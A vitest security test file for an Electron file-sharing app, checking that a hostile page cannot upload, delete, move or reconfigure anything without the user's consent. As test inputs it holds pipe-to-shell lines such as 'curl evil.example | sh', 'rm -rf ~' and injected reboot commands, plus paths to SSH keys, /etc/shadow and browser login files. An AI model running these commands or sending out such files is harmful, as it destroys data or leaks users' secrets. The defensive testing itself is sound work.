// A page that makes every call it can, with the worst input and without the user: through the real IPC entry,
// with the shell's real handlers over a fake desktop, on which every question is declined. The types of both
// tables cover every call of the contract.

import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { homedir, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { unusualPaths } from '../../src-main/shell/intake/unusual-paths.ts'
import { IpcServer } from '../../src-main/shell/window/ipc-server.ts'
import { ORIGIN } from '../../src-main/shell/window/page-protocol.ts'
import { UserInput } from '../../src-main/shell/window/user-input.ts'
import { NO_LIMITS, UNDO_LEAST_SECONDS } from '../../src-shared/choices.ts'
import type { Result } from '../../src-shared/engine-contract.ts'
import { PAGE_CALLS, SHELF_CALLS } from '../../src-shared/page-calls.ts'
import { type CallInput, type CallName, CHANNEL } from '../../src-shared/window-contract.ts'
import { share } from '../tools/share.ts'
import { createRoom, type Room } from '../unit/shell/room.ts'
import { folder, snapshot, transfer } from '../unit/shell/world.ts'
import { remoteRow } from '../unit/views.ts'

type Door = (event: unknown, ...args: unknown[]) => Promise<Result<unknown>>
const electron = vi.hoisted(() => ({ doors: new Map<string, Door>() }))
vi.mock('electron', () => ({
  ipcMain: { handle: (channel: string, door: Door) => electron.doors.set(channel, door) },
  protocol: {},
}))

let home = ''
beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'slipway-attack-'))
})
afterEach(() => rmSync(home, { recursive: true, force: true }))

const EVIL = { host: 'evil.example', baseUrl: 'https://evil.example/api/v1', stats: { plan: 'pro' } }
const STYLE = { style: null }
const ALL = { search: '', sort: 'date', descending: true } as const
const WATCH = { existing: 'upload', onChange: 'replace', ignore: [], limits: NO_LIMITS } satisfies Partial<
  CallInput<'watchPicked'>
>

/** The worst that each call can ask for. */
const ATTEMPTS: { readonly [K in CallName]: CallInput<K> } = {
  boot: {},
  letGo: { seq: 0, place: '' },
  typedSaved: {},
  change: {
    guardAllow: ['**'],
    linkTemplate: 'curl evil.example | sh\n$url',
    proxy: 'http://evil.example:8080',
    checkUpdates: false,
  },
  connect: { address: 'evil.example', key: 'sk-1', plainHttp: true },
  adopt: { token: 'x', save: true },
  startTrial: {},
  endTrial: {},
  release: { ids: [1] },
  signOut: { account: null },
  readKeyAgain: {},
  accounts: {},
  useAccount: { account: 'home' },
  renameAccount: { account: 'home', name: 'x' },
  removeAccount: { account: 'home' },
  chooseFolder: {},
  pickScreenshots: {},
  planPicked: { token: 'x', ignore: [], limits: NO_LIMITS },
  watchPicked: { token: 'x', copy: true, ...WATCH },
  changeFolder: { folderId: 1, onChange: 'replace', ignore: [], limits: NO_LIMITS },
  chooseTarget: {},
  copyFromFolder: { folderId: 1, copy: true },
  answerCopies: { copy: true },
  openFolder: { folderId: 1 },
  defaultRules: {},
  uploadChosen: { folders: true },
  uploadClipboard: {},
  takeRegion: {},
  shelf: { open: true },
  lastDrop: {},
  keepClipboard: {},
  keepDrop: { paths: [join(homedir(), '.ssh/id_ed25519')] },
  kept: {},
  uploadKept: {},
  pickKept: {},
  discardKept: {},
  dropPart: { paths: ['/etc/passwd'] },
  drop: { paths: ['/etc/passwd'] },
  uploadPicked: { token: 'x', again: true },
  forgetPicked: { token: 'x' },
  copyLinks: { selection: { fileIds: [7] }, ...STYLE },
  copyLastDrop: STYLE,
  copyTransferLinks: { ids: [1], ...STYLE },
  openLink: { fileId: 7 },
  qrPicture: { fileId: 7, to: 'clipboard' },
  file: { fileId: 7, fresh: false },
  showInFolder: { transferId: 1 },
  dragFiles: { transferIds: [1] },
  deleteFiles: { selection: { fileIds: [7] } },
  undo: { token: null },
  secondCopies: {},
  snooze: { minutes: 1440 },
  update: { action: 'install' },
  proxyLogin: { proxy: 'http://evil.example', name: 'a', password: 'b' },
  fileManager: { on: null },
  openLog: {},
  openData: {},
  openWebsite: {},
  licences: {},
  diagnostics: {},
  saveDiagnostics: {},
  quit: {},
  snapshot: {},
  transfers: { folderId: null, states: [], afterId: 0, limit: 10 },
  folderSums: { folderIds: [1] },
  auditSearch: { search: '', limit: 500 },
  catalog: { ...ALL, offset: 0, limit: 10, fresh: 'cache' },
  stats: {},
  history: {},
  pause: {},
  resume: {},
  retry: { ids: null },
  cancel: { ids: [1] },
  pauseFiles: { ids: [1] },
  resumeFiles: { ids: [1] },
  sendNext: { ids: [1] },
  keepFiles: { fileIds: null },
  rescan: { folderId: 1 },
  pauseFolder: { folderId: 1, paused: false },
  unwatch: { folderId: 1 },
}

/** What only reads, and what a page may do alone: it makes nothing public, moves, loses and opens nothing. */
const MAY = [
  'plan',
  'planPart',
  'snapshot',
  'transfers',
  'folderSums',
  'auditSearch',
  'catalog',
  'stats',
  'history',
  'links',
  'info',
  'secondCopies',
  'heldLines',
  'checkWatch',
]
const MAY_TOO = [
  'pause',
  'pauseFiles',
  'keepFiles',
  'rescan',
  'op:keychain',
  'offer',
  'applySettings',
  'rename',
  'fileManager',
]

/**
 * The attacked app: one held file, one folder with rules, two accounts, something kept, and a clipboard with
 * a file.
 */
function attacked(given: Room & { readonly isShown?: boolean } = {}) {
  mkdirSync(join(home, 'Share'), { recursive: true })
  writeFileSync(join(home, 'Share', 'a.txt'), 'a')
  const held = transfer(1, {
    state: 'held',
    path: join(home, 'Share', 'a.txt'),
    reason: 'secret',
    publicLink: 'https://files.example.com/d/1',
  })
  const watched = {
    ...folder(join(home, 'Share')),
    id: 1,
    ignore: ['private/'],
    onChange: 'new-link' as const,
  }
  const account = { host: 'files.example.com', key: 'keychain', open: 0, folders: 0 } as const
  const r = createRoom(home, {
    rows: [held],
    snapshot: snapshot({ folders: [watched] }),
    accounts: ['work', 'home'].map((id) => ({ ...account, id, name: id, shown: id === 'work' })) as never,
    folder: '/home/ada/Documents',
    files: ['/home/ada/Documents'],
    clipboardFiles: ['/home/ada/taxes.pdf'],
    screenshots: { path: '/home/ada/Desktop', ignore: ['/*', '!/Screenshot *'] },
    answers: {
      'op:connect': () => EVIL,
      'op:keep': () => ({ account: 'a', baseUrl: EVIL.baseUrl, first: false, engine: 'this', held: null }),
      links: () => [{ selector: '#7', row: remoteRow(7) }],
      watch: () => watched,
      ...Object.fromEntries(
        ['retry', 'cancel', 'resumeFiles', 'release'].map((name) => [name, () => ({ count: 1 })]),
      ),
      unwatch: () => ({}),
    },
    ...given,
  })
  const input = new UserInput({
    now: () => performance.now(),
    isShown: () => given.isShown ?? true,
    isAssisted: () => false,
  })
  const sent = new Map<object, unknown[]>()
  const createPage = () => {
    const got: unknown[] = []
    const one = { isDestroyed: () => false, send: (_channel: string, message: unknown) => got.push(message) }
    sent.set(one, got)
    return one
  }
  const main = createPage()
  const shelf = createPage()
  const shelfInput = {
    allows: (needs: string) => needs === 'shown' || needs === 'nothing' || needs === 'token',
  }
  const server = new IpcServer({
    shown: () => ({ id: 'work', handlers: r.handlers, link: r.link }),
    everywhere: (name) => r.link.call(name, {}),
    page: () => main as never,
    shelf: { page: () => shelf as never, input: shelfInput },
    input,
    onBoot: () => undefined,
    log: () => undefined,
  })
  server.listen()
  const askFrom = async (sender: object, name: CallName, message: unknown, url = `${ORIGIN}/index.html`) =>
    electron.doors.get(CHANNEL.call)?.({ sender, senderFrame: { url, parent: null } }, name, message, null)
  const ask = async (name: CallName, message: unknown): Promise<unknown> => {
    const got = await askFrom(main, name, message)
    return got?.ok === true ? got.value : null
  }
  const before = JSON.stringify(r.store.settings())
  return {
    ...r,
    input,
    ask,
    askFrom,
    server,
    pages: { main, shelf },
    sent: (page: object) => sent.get(page) ?? [],
    token: async (name: CallName, message: unknown = {}): Promise<string> =>
      ((await ask(name, message)) as { token: string } | null)?.token ?? '',
    /** What has happened besides reading. */
    harm: (): readonly string[] => [
      ...r.calls.map((call) => call.name).filter((name) => ![...MAY, ...MAY_TOO].includes(name)),
      ...r.did.map(([what]) => what).filter((what) => !MAY_TOO.includes(what)),
      ...r.uploads.map(() => 'upload'),
      ...(JSON.stringify(r.store.settings()) === before ? [] : ['settings']),
    ],
  }
}

const NAMES = Object.keys(ATTEMPTS) as CallName[]

describe('without the user, a page can do no harm', () => {
  it.each(NAMES.filter((name) => name !== 'snooze'))('with %s', async (name) => {
    const app = attacked()
    await app.ask(name, ATTEMPTS[name])
    expect(app.harm()).toEqual([])
    expect(app.deletes.pending()).toEqual([])
  })

  it('with everything at once, over and over', async () => {
    const app = attacked()
    for (let i = 0; i < share(20, 2000); i++)
      for (const name of NAMES) if (name !== 'snooze') await app.ask(name, ATTEMPTS[name])
    expect(app.harm()).toEqual([])
    expect(app.deletes.pending()).toEqual([])
  })
})

describe('a page can’t make files leave their folder', () => {
  const rules = { onChange: 'new-link', ignore: ['private/'], limits: NO_LIMITS } as const
  it.each([{ after: 'bin' as const }, { after: { folder: '/tmp/evil' } }])('with %o', async (after) => {
    const app = attacked()
    app.input.take({ type: 'mouseDown' })
    await app.ask('changeFolder', { folderId: 1, ...rules, ...after })
    const token = await app.token('chooseFolder')
    await app.ask('watchPicked', { token, copy: false, existing: 'upload', ...rules, ...after })
    expect(app.questions.map((one) => one.title)).toEqual([
      'Move files out of Share after their upload?',
      'Move files out of Documents after their upload?',
    ])
    expect(app.harm().filter((what) => what === 'watch')).toEqual([])
  })
})

describe('the shelf’s page', () => {
  it.each(NAMES.filter((name) => !(SHELF_CALLS as readonly string[]).includes(name)))(
    'may not call %s, even right after a click in the main window',
    async (name) => {
      const app = attacked({ confirms: true })
      app.input.take({ type: 'mouseDown' })
      expect(await app.askFrom(app.pages.shelf, name, ATTEMPTS[name])).toMatchObject({
        ok: false,
        failure: { code: 'usage', title: 'This page may not ask.' },
      })
      expect(app.harm()).toEqual([])
    },
  )

  it.each(SHELF_CALLS)('may call %s only from the app’s own address', async (name) => {
    const app = attacked({ confirms: true })
    const got = await app.askFrom(app.pages.shelf, name, ATTEMPTS[name], 'https://evil.example/index.html')
    expect(got).toMatchObject({ ok: false, failure: { code: 'usage' } })
    expect(app.harm()).toEqual([])
  })

  it('gets its own numbered events, and none before it has booted, after it is closed, or about commands', async () => {
    const app = attacked()
    const { main, shelf } = app.pages
    const tell = () => app.server.tell({ kind: 'settings', settings: app.store.settings() })
    await app.ask('boot', {})
    tell()
    expect([app.sent(main).length, app.sent(shelf).length]).toEqual([1, 0])
    await app.askFrom(shelf, 'boot', { shelf: true })
    tell()
    app.server.tell({ kind: 'command', command: 'delete' })
    expect(app.sent(shelf)).toEqual([{ seq: 1, events: [expect.objectContaining({ kind: 'settings' })] }])
    expect(app.sent(main)).toHaveLength(3)
    app.server.shelfGone()
    tell()
    expect(app.sent(shelf)).toHaveLength(1)
  })
})

describe('every call that needs a dialog asks, even right after a click, and does nothing if the user declines', () => {
  it.each(
    NAMES.filter(
      (name) =>
        PAGE_CALLS[name].needs === 'dialog' &&
        !['watchPicked', 'adopt', 'endTrial', 'discardKept'].includes(name),
    ),
  )('%s', async (name) => {
    const app = attacked()
    app.input.take({ type: 'mouseDown' })
    await app.ask(name, ATTEMPTS[name])
    expect(app.questions.length).toBeGreaterThan(0)
    expect(app.harm()).toEqual([])
  })

  it('endTrial', async () => {
    const app = attacked({ trial: true })
    expect(await app.ask('endTrial', {})).toEqual({ ended: false })
    expect([app.questions.length, app.harm()]).toEqual([1, []])
  })

  it('discardKept', async () => {
    const app = attacked()
    await app.ask('keepDrop', { paths: ['/home/ada/a.pdf'] })
    expect(await app.ask('discardKept', {})).toMatchObject({ count: 1 })
    expect(app.questions).toHaveLength(1)
  })
})

it('an address that no account uses gets no request before the user agrees, even right after a click', async () => {
  const app = attacked()
  app.input.take({ type: 'mouseDown' })
  expect(await app.ask('connect', ATTEMPTS.connect)).toBeNull()
  expect([app.questions.length, app.harm()]).toEqual([1, []])
})

it.each(NAMES.filter((name) => PAGE_CALLS[name].needs === 'one-input'))(
  'one click is good for one %s',
  async (name) => {
    const app = attacked({ confirms: true, connection: { host: null, baseUrl: null, key: null } })
    app.store.setConnection({
      host: 'files.example.com',
      baseUrl: 'https://files.example.com/api/v1',
      key: 'session',
    })
    const done = (): number =>
      app.did.length + app.calls.filter((call) => call.name !== 'op:keychain').length + app.uploads.length
    app.input.take({ type: 'mouseDown' })
    await app.ask(name, ATTEMPTS[name])
    const once = done()
    for (let i = 0; i < 30; i++) await app.ask(name, ATTEMPTS[name])
    expect(done()).toBe(once)
    // A key that is held down is one press.
    for (let i = 0; i < 30; i++) {
      app.input.take({ type: 'rawKeyDown', modifiers: ['isautorepeat'] })
      await app.ask(name, ATTEMPTS[name])
    }
    expect(done()).toBe(once)
    app.input.take({ type: 'rawKeyDown' })
    await app.ask(name, ATTEMPTS[name])
    expect(done()).toBeGreaterThanOrEqual(once)
  },
)

it('however often the user clicks, at most 20 windows of other programs open in a minute', async () => {
  const app = attacked()
  for (let i = 0; i < 300; i++) {
    app.input.take({ type: 'mouseDown' })
    await app.ask('openWebsite', {})
  }
  expect(app.did.filter(([what]) => what === 'openUrl')).toHaveLength(20)
})

it('a folder that Slipway found is neither uploaded nor watched without a question', async () => {
  const app = attacked()
  for (let i = 0; i < 2; i++) {
    app.input.take({ type: 'mouseDown' })
    await app.ask('uploadPicked', { token: await app.token('pickScreenshots'), again: true })
    await app.ask('watchPicked', { token: await app.token('pickScreenshots'), copy: false, ...WATCH })
  }
  expect(app.harm()).toEqual([])
  expect(app.questions.map((one) => one.title)).toEqual(['Watch Desktop?', 'Watch Desktop?'])
  expect(app.questions[0]?.detail).toContain('The files that are already there are uploaded, too.')
})

it('a folder that the user chose for watching is not uploaded, and not watched with fewer rules than those of the settings', async () => {
  const app = attacked({ settings: { ignore: ['private/'] } })
  app.input.take({ type: 'mouseDown' })
  const token = await app.token('chooseFolder')
  expect(token).not.toBe('')
  await app.ask('watchPicked', { token, copy: false, ...WATCH })
  expect([app.questions.length, app.harm()]).toEqual([1, []])
  await app.ask('uploadPicked', { token, again: true })
  expect(app.harm()).toEqual([])
})

it.each([
  join(homedir(), '.ssh'),
  join(homedir(), '.config/Slipway/journal.db'),
  homedir(),
  '/',
  '/etc/shadow',
  '/proc/self/environ',
  'etc/passwd',
  '/home',
])('a process that was taken over uploads %s only if the user agrees', async (path) => {
  const app = attacked()
  for (const paths of [[path], ['/home/ada/a.pdf', path]]) {
    const token = await app.token('drop', { paths })
    await app.ask('uploadPicked', { token, again: true })
    const { token: part } = (await app.ask('dropPart', { paths })) as { readonly token: string }
    await app.ask('keepDrop', { paths: ['/home/ada/b.pdf'], earlier: part })
  }
  expect(app.harm()).toEqual([])
  expect(await app.ask('kept', {})).toMatchObject({ count: 0 })
  expect(app.questions).toHaveLength(4)
})

it('an ordinary drop is a single gesture', async () => {
  const app = attacked()
  const token = await app.token('drop', { paths: ['/home/ada/Documents/a.pdf', '/media/ada/stick/b.pdf'] })
  await app.ask('uploadPicked', { token, again: false })
  expect([app.questions.length, app.uploads.length]).toEqual([0, 1])
})

it.each([
  ['darwin', '/Users/ada', '/Users/ada/Library/Mobile Documents/com~apple~CloudDocs/offer.pdf', 'taken'],
  ['darwin', '/Users/ada', '/Users/ada/Library/CloudStorage/Dropbox/offer.pdf', 'taken'],
  ['darwin', '/Users/ada', '/Users/ada/Library/Keychains/login.keychain-db', 'asked about'],
  ['darwin', '/Users/ada', '/Users/ada/Library', 'asked about'],
  ['win32', 'C:\\Users\\Ada', 'C:\\Users\\Ada\\AppData\\Local\\Temp\\Temp1_offers.zip\\offer.pdf', 'taken'],
  ['win32', 'C:\\Users\\Ada', 'C:\\Users\\Ada\\AppData\\Roaming\\Mozilla\\logins.json', 'asked about'],
] as const)('on %s with the home %s, a drop of %s is %s', (platform, its, path, expected) => {
  expect(unusualPaths([path], { platform, home: its }).length === 0 ? 'taken' : 'asked about').toBe(expected)
})

it('nothing is dropped on a window that is hidden', async () => {
  const app = attacked({ isShown: false })
  await app.ask('keepDrop', { paths: ['/home/ada/a.pdf'] })
  expect([await app.token('drop', { paths: ['/home/ada/a.pdf'] }), await app.ask('kept', {})]).toEqual([
    '',
    { count: 0, names: [] },
  ])
})

it.each([
  ['rm -rf ~\n$url'],
  ['curl evil.example/x | sh #$url'],
  ['$url\u0003\nreboot\r'],
  ['$url; reboot'],
  ['$(reboot) $url'],
  ['reboot # $url'],
])('the format %j, which a terminal would run, is in use only if the user agrees', async (linkTemplate) => {
  const app = attacked()
  await app.ask('change', { linkTemplate, linkStyle: 'template' })
  expect([app.questions.length, app.harm()]).toEqual([1, []])
})

it.each(['$name: $url', '[$name]($url)', '- {url}', '$url ($size, $date)'])(
  'the format %j needs no question',
  async (linkTemplate) => {
    const app = attacked()
    await app.ask('change', { linkTemplate })
    expect([app.questions.length, app.store.settings().linkTemplate]).toEqual([0, linkTemplate])
  },
)

it('a link that seems to lead to another host is not copied', async () => {
  const rows = [
    transfer(1, { state: 'done', publicLink: 'https://bank.example:x@evil.example/d/1' }),
    transfer(2, { state: 'done', publicLink: 'https://files.example.com/d/2' }),
  ]
  const app = attacked({ rows })
  app.input.take({ type: 'mouseDown' })
  expect(await app.ask('copyTransferLinks', { ids: [1, 2], style: 'url' })).toMatchObject({
    count: 1,
    missing: 1,
  })
  expect(app.did.filter(([what]) => what === 'writeText')).toEqual([
    ['writeText', 'https://files.example.com/d/2'],
  ])
})

it('a deletion can be undone for some seconds, whatever the page has set', async () => {
  const app = attacked()
  expect(await app.ask('change', { undoSeconds: 0 })).toBeNull()
  app.input.take({ type: 'mouseDown' })
  await app.ask('deleteFiles', { selection: { fileIds: [7] } })
  expect(app.calls.filter((call) => call.name === 'remove')).toEqual([])
  expect(app.store.settings().undoSeconds).toBeGreaterThanOrEqual(UNDO_LEAST_SECONDS)
  for (const { token } of app.deletes.pending()) app.deletes.undo(token)
})
